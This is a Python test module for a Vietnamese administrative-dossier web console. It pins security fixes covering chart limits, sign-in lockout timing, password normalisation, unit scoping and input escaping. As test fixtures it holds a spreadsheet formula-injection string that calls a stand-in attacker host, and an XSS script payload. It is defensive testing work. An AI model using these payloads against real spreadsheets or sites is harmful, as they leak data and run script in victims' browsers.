"""Regression tests of the console's review: each one a hole found by attacking the console, closed.

- a chart of centuries (``from=0001-01-01&to=9999-12-31``) made one request compute half a million reports;
- a replay instant at the calendar's edge (``?at=9999-12-31T23:59:59-23:59``) was a 500;
- an anchor file over the server's request-size limit was answered by the API's JSON problem document;
- a locked-out user was refused without any password verification (the time told the lock, hence the name);
- a password typed decomposed (NFD) was another password than the same typed composed (NFC);
- guesses sent at once were counted as one failure (each read the count before any wrote it);
- a text starting with ``=`` in the control sheet (a note, an assignee's name) was written as a formula;
- a refusal of the catalogue (an unknown procedure) on the dossier page was the generic 409 page.

And what the review checked without finding a hole, pinned so that it stays so: scope on every route that names a
dossier or a unit, roles on triggers, and the server's home unit as a grant (``--unit 000.00.00.H23``).
"""

from __future__ import annotations

import io
import re
import threading
import unicodedata
from collections.abc import Iterator
from dataclasses import dataclass, replace
from datetime import date, datetime, timedelta
from typing import Literal

import pytest
from argon2 import PasswordHasher
from openpyxl import load_workbook  # type: ignore[import-untyped]

from motcua.adapters import users
from motcua.adapters.bootstrap import DEFAULT_AGENCY, open_motcua
from motcua.adapters.users import MemoryUserStore, Passwords, PasswordsBusy, SignInPolicy, User, new_user, sign_in
from motcua.entrypoints.cli.http_cmd import check_known
from motcua.entrypoints.console.base import CONSOLE_POLICY
from motcua.entrypoints.console.report_views import CHART_MONTHS_MAX, chartable
from motcua.workflow.access.cases import ScopedCases
from motcua.workflow.engine.clock import ManualClock
from motcua.workflow.errors import InvalidInput, UnknownProcedure
from motcua.workflow.reports.periods import LAST_DAY, Period
from tests.unit.console.console_a import (
    AN_THUONG,
    APPLICANT,
    CAM_THUONG,
    PROCEDURE,
    STAFF,
    START,
    Site,
    cheap_passwords,
    csrf_of,
    site,
)

NOW = datetime(2025, 6, 2, 2, 0).astimezone()
PASSWORD = "mật-khẩu-đủ-dài-42"


@pytest.fixture
def office() -> Site:
    return site()


@pytest.fixture
def counted(monkeypatch: pytest.MonkeyPatch) -> Iterator[Counting]:
    passwords = Counting()
    monkeypatch.setattr(users, "PASSWORDS", passwords)
    yield passwords


class Counting(Passwords):
    """Argon2 at its cheapest, counting the verifications (the work a refusal costs, never its time)."""

    def __init__(self) -> None:
        super().__init__(cheap_passwords().hasher)
        self.verified = 0

    def matches(self, password_hash: str | None, password: str) -> bool:
        self.verified += 1
        return super().matches(password_hash, password)


# --- reports: the charts' period is bounded ---------------------------------------------------------------------


def test_a_chart_of_centuries_is_refused_in_words_and_the_page_draws_none(office: Site) -> None:
    browser = office.browser("lan", ["officer"], units=[AN_THUONG])
    centuries = {"from": "1990-01-01", "to": "2199-12-31"}  # every day a report may cover
    for chart in ("on-time", "overdue", "channels"):
        refused = browser.get(f"/console/charts/{chart}.png", params=centuries)
        assert refused.status_code == 400 and refused.headers["content-type"].startswith("text/html")
        assert f"tối đa {CHART_MONTHS_MAX} tháng" in refused.text and "Traceback" not in refused.text
    page = browser.get("/console/reports/bieu06", params=centuries)
    assert page.status_code == 200 and "/console/charts/" not in page.text  # the table, without its charts
    assert f"tối đa {CHART_MONTHS_MAX} tháng" in page.text
    beyond = {"from": "0001-01-01", "to": "9999-12-31"}  # days no report covers: the form says which
    chart = browser.get("/console/charts/on-time.png", params=beyond)
    assert chart.status_code == 400 and "Dữ liệu gửi lên không hợp lệ." in chart.text
    form = browser.get("/console/reports/bieu06", params=beyond)
    assert form.status_code == 400 and "1990-01-01" in form.text and "Traceback" not in form.text
    year = browser.get("/console/reports/bieu06", params={"period": "2025"})
    assert year.status_code == 200 and "/console/charts/on-time.png" in year.text
    assert browser.get("/console/charts/on-time.png", params={"period": "2025"}).status_code == 200


def test_chartable_counts_the_months_without_listing_them() -> None:
    assert chartable(Period(date(2020, 1, 1), date(2024, 12, 31)))  # five years: sixty months
    assert not chartable(Period(date(2020, 1, 1), date(2025, 1, 1)))
    assert chartable(Period(date(2199, 12, 1), LAST_DAY))  # the last month a report may cover


# --- the dossier page -------------------------------------------------------------------------------------------


@pytest.mark.parametrize("instant", ["9999-12-31T23:59:59-23:59", "0001-01-01T00:00:00+23:59", "9999-12-31T23:00"])
def test_a_replay_instant_at_the_calendars_edge_is_a_400_in_words(office: Site, instant: str) -> None:
    browser = office.browser("lan", ["officer"], units=[AN_THUONG])
    page = browser.get(f"/console/dossiers/{office.codes['an_open']}", params={"at": instant})
    assert page.status_code == 400 and "Thời điểm không hợp lệ" in page.text and "Traceback" not in page.text


def test_a_refusal_of_the_catalogue_is_said_on_the_dossier_page(office: Site,
                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    def gone(*_: object, **__: object) -> None:
        raise UnknownProcedure("9.999999")

    monkeypatch.setattr(ScopedCases, "fire", gone)
    browser = office.browser("lan", ["officer", "specialist"], units=[AN_THUONG])
    code = office.codes["an_open"]
    page = browser.get(f"/console/dossiers/{code}")
    version = office.motcua.store.load(code).version
    answer = browser.post(f"/console/dossiers/{code}/fire", data={
        "csrf_token": csrf_of(page.text), "trigger": "assign", "version": str(version),
        "data.assignee": "Phạm Văn Hùng"})
    assert answer.status_code == 422 and "thủ tục không có trong danh mục" in answer.text


def test_a_role_fires_only_its_triggers_and_console_roles_none(office: Site) -> None:
    code = office.codes["an_open"]
    for name, roles, units in (("tra", ["inspector"], [AN_THUONG]), ("ops", ["operator", "auditor"], None)):
        browser = office.browser(name, roles, units=units)
        page = browser.get(f"/console/dossiers/{code}")
        assert page.status_code == 200 and 'name="trigger"' not in page.text  # no action offered
        before = office.motcua.store.load(code)
        answer = browser.post(f"/console/dossiers/{code}/fire", data={
            "csrf_token": csrf_of(page.text), "trigger": "assign", "version": str(before.version),
            "data.assignee": "Phạm Văn Hùng"})
        assert answer.status_code == 422 and "Vai trò của bạn không được thực hiện" in answer.text
        assert office.motcua.store.load(code) == before


def test_a_formula_typed_into_a_dossier_is_text_in_its_control_sheet(office: Site) -> None:
    formula = '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")'
    code = office.receive("formula", AN_THUONG, assignee=formula)
    browser = office.browser("lan", ["officer"], units=[AN_THUONG])
    sheet = browser.get(f"/console/dossiers/{code}/control-sheet.xlsx")
    assert sheet.status_code == 200
    book = load_workbook(io.BytesIO(sheet.content))
    cells = [cell for worksheet in book.worksheets for row in worksheet.iter_rows() for cell in row]
    assert formula in [cell.value for cell in cells]  # the name is kept, as text
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]


# --- who sees what (pinned: no hole found) ----------------------------------------------------------------------


def test_nothing_of_another_unit_is_reached_through_any_console_route(office: Site) -> None:
    browser = office.browser("lan", ["officer", "specialist", "leader"], units=[AN_THUONG])
    other = office.codes["cam_open"]
    for url in (f"/console/dossiers/{other}", f"/console/dossiers/{other}?at=2025-06-03T09:00",
                f"/console/dossiers/{other}/control-sheet.xlsx", f"/console/reports/bieu06?unit={CAM_THUONG}",
                f"/console/reports/bieu06.xlsx?unit={CAM_THUONG}", f"/console/charts/on-time.png?unit={CAM_THUONG}"):
        assert browser.get(url).status_code == 404, url
    for url in (f"/console/dossiers?unit={CAM_THUONG}&scope=all", f"/console/dossiers?q={other}",
                "/console/", "/console/workflows/tthc-dossier"):
        answer = browser.get(url)
        assert answer.status_code == 200 and f"/console/dossiers/{other}" not in answer.text, url  # no link to it
    page = browser.get(f"/console/dossiers/{office.codes['an_open']}")
    moved = browser.post(f"/console/dossiers/{other}/fire", data={
        "csrf_token": csrf_of(page.text), "trigger": "assign", "version": "2", "data.assignee": "Phạm Văn Hùng"})
    assert moved.status_code == 404


def test_a_list_of_a_unit_no_register_knows_is_a_404_page_not_an_empty_list(office: Site) -> None:
    browser = office.browser("lan", ["officer", "specialist", "leader"], units=[AN_THUONG])
    answer = browser.get("/console/dossiers?unit=LOCAL-HD-AN-THUONGG&scope=all")  # a letter too many
    assert answer.status_code == 404
    assert "Không có đơn vị nào mang mã này." in answer.text


def test_a_grant_of_the_home_unit_sees_the_home_units_dossiers_only() -> None:
    standalone = open_motcua("memory://", clock=ManualClock(START), observers=[])  # home 000.00.00.H23: unregistered
    try:
        home_case = standalone.desk.receive(PROCEDURE, "direct", APPLICANT, STAFF).code
        an_case = standalone.desk.receive(PROCEDURE, "direct", APPLICANT, STAFF, unit=AN_THUONG).code
        directory = standalone.desk.units
        check_known([DEFAULT_AGENCY], None, directory)  # the home is a unit a grant may name
        with pytest.raises(InvalidInput, match="unknown unit"):
            check_known(["000.00.00.H99"], None, directory)
        home = User("an", "h", ("officer",), NOW, units=(DEFAULT_AGENCY,)).scope(directory, date(2026, 1, 1))
        index = standalone.workflows.index_of
        assert home.admits(index(standalone.store.load(home_case)))
        assert not home.admits(index(standalone.store.load(an_case)))  # a unit of the register is not the home's
        province = User("tinh", "h", ("inspector",), NOW, province="hai-duong").scope(directory, date(2026, 1, 1))
        assert not province.admits(index(standalone.store.load(home_case)))  # nor is the home a province's unit
    finally:
        standalone.close()


# --- the anchor upload past the request-size limit --------------------------------------------------------------


def test_an_anchor_past_the_body_limit_is_a_console_page_and_the_api_keeps_its_problem(office: Site) -> None:
    browser = office.browser("ops", ["auditor"])
    page = browser.get("/console/audit/anchors")
    answer = browser.post("/console/audit/anchors/check", data={"csrf_token": csrf_of(page.text)},
                          files={"anchor": ("anchor.json", b"{" + b" " * 2_000_000 + b"}", "application/json")})
    assert answer.status_code == 413 and answer.headers["content-type"].startswith("text/html")
    assert answer.headers["content-security-policy"] == CONSOLE_POLICY
    assert "motcua verify --anchor" in answer.text and "MOTCUA_HTTP_MAX_BODY" in answer.text
    api = browser.post("/dossiers", content=b"{" + b" " * 2_000_000 + b"}",
                       headers={"content-type": "application/json"})
    assert api.status_code == 413 and api.headers["content-type"] == "application/problem+json"


# --- signing in -------------------------------------------------------------------------------------------------


def test_a_locked_out_user_costs_a_verification_like_any_refusal(counted: Counting) -> None:
    store = MemoryUserStore()
    store.add_user(User("lan", counted.hash(PASSWORD), ("officer",), NOW, units=(AN_THUONG,), failures=0,
                        locked_until=NOW + timedelta(minutes=15)))
    counted.verified = 0
    assert sign_in(store, "lan", PASSWORD, NOW, SignInPolicy()) is None  # locked: even the right password
    assert sign_in(store, "nobody", PASSWORD, NOW, SignInPolicy()) is None
    assert sign_in(store, "lan", "sai-mật-khẩu-rồi", NOW, SignInPolicy()) is None
    assert counted.verified == 3  # one Argon2 verification each: the answer's time tells none apart


def test_a_password_is_the_same_typed_composed_or_decomposed(counted: Counting) -> None:
    store = MemoryUserStore()
    store.add_user(new_user("lan", unicodedata.normalize("NFD", PASSWORD), ["officer"], NOW, units=[AN_THUONG]))
    assert sign_in(store, "lan", unicodedata.normalize("NFC", PASSWORD), NOW, SignInPolicy()) is not None
    assert sign_in(store, "lan", unicodedata.normalize("NFD", PASSWORD), NOW, SignInPolicy()) is not None


@dataclass
class StaleReads(MemoryUserStore):
    """A store whose reads of a user all return the user as first read: guesses sent at once, each having read the
    count before any of them wrote it."""

    first: dict[str, User | None] | None = None

    def user(self, name: str) -> User | None:
        if self.first is None:
            self.first = {}
        if name not in self.first:
            self.first[name] = super().user(name)
        return self.first[name]


def test_guesses_sent_at_once_are_each_counted_towards_the_lock_out(counted: Counting) -> None:
    store = StaleReads()
    store.add_user(new_user("lan", PASSWORD, ["officer"], NOW, units=[AN_THUONG]))
    policy = SignInPolicy(max_failures=5)
    for attempt in range(5):
        assert sign_in(store, "lan", f"đoán-sai-lần-{attempt}", NOW, policy) is None
    locked = MemoryUserStore.user(store, "lan")
    assert locked is not None and locked.locked(NOW)


class Held(PasswordHasher):
    """Argon2 at its cheapest, whose verification waits until the test lets it go (a sign-in in progress)."""

    def __init__(self) -> None:
        cheapest = cheap_passwords().hasher
        super().__init__(cheapest.time_cost, cheapest.memory_cost, cheapest.parallelism, cheapest.hash_len,
                         cheapest.salt_len)
        self.started, self.go = threading.Event(), threading.Event()

    def verify(self, hash: str | bytes, password: str | bytes) -> Literal[True]:
        self.started.set()
        self.go.wait(timeout=30)
        return super().verify(hash, password)


def test_a_flood_of_sign_ins_waits_its_turn_then_is_told_busy_never_counted(office: Site,
                                                                              monkeypatch: pytest.MonkeyPatch) -> None:
    held = Held()
    passwords = Passwords(held, at_once=1, wait=0.05)
    monkeypatch.setattr(users, "PASSWORDS", passwords)
    store = MemoryUserStore()
    store.add_user(User("lan", passwords.hasher.hash(PASSWORD), ("officer",), NOW, units=(AN_THUONG,)))
    first = threading.Thread(target=sign_in, args=(store, "lan", PASSWORD, NOW, SignInPolicy()))
    first.start()
    assert held.started.wait(timeout=30)  # the one turn is taken
    with pytest.raises(PasswordsBusy):
        sign_in(store, "lan", "đoán-sai-lần-nữa", NOW, SignInPolicy())
    held.go.set()
    first.join(timeout=30)
    assert store.user("lan") is not None and store.user("lan").failures == 0  # type: ignore[union-attr]
    monkeypatch.setattr(users, "PASSWORDS", Passwords(Held(), at_once=1, wait=0))
    users.PASSWORDS._turns.acquire()  # every turn taken: the page's answer
    browser = office.anonymous()
    form = browser.get("/console/sign-in")
    token = re.search(r'name="signin_token" value="([^"]+)"', form.text)
    assert token is not None
    busy = browser.post("/console/sign-in", data={"name": "lan", "password": PASSWORD, "signin_token": token[1]})
    assert busy.status_code == 503 and "tạm thời không sẵn sàng" in busy.text


def test_a_control_character_in_an_address_is_a_400_before_any_lookup(office: Site) -> None:
    browser = office.browser("lan", ["officer"], units=[AN_THUONG])
    for address in ("/console/dossiers?officer=a%00b", f"/console/dossiers/{office.codes['an_open']}%00",
                    "/console/plan?plan=%1b", "/console/charts/on-time.png?unit=%7f"):
        answer = browser.get(address)
        assert answer.status_code == 400 and "ký tự điều khiển" in answer.text, address
    assert browser.get("/console/dossiers?officer=Phạm Văn Hùng").status_code == 200  # Vietnamese is no control


def test_a_sign_in_name_that_no_user_can_have_is_never_looked_up(counted: Counting) -> None:
    class Watched(MemoryUserStore):
        asked: list[str]

        def user(self, name: str) -> User | None:
            self.asked.append(name)
            return super().user(name)

    store = Watched()
    store.asked = []
    for name in ("lan\x00", "lan ", "-lan", "lan/..", "l" * 65):
        assert sign_in(store, name, PASSWORD, NOW, SignInPolicy()) is None
    assert store.asked == [] and counted.verified == 5  # each still costs a verification


def test_markup_typed_into_a_dossier_is_shown_as_text_on_every_page(office: Site) -> None:
    script = '<script>alert("x")</script><img src=x onerror=alert(1)>'
    code = office.motcua.desk.receive(PROCEDURE, "direct", replace(APPLICANT, name=script), STAFF, unit=AN_THUONG,
                                      summary=script).code
    office.fire(code, "assign", {"assignee": script})
    browser = office.browser("lan", ["officer"], units=[AN_THUONG])
    for address in (f"/console/dossiers/{code}", "/console/dossiers", "/console/"):
        page = browser.get(address)
        assert page.status_code == 200 and "<script>alert" not in page.text and "<img src=x" not in page.text
    assert "&lt;script&gt;alert(" in browser.get(f"/console/dossiers/{code}").text
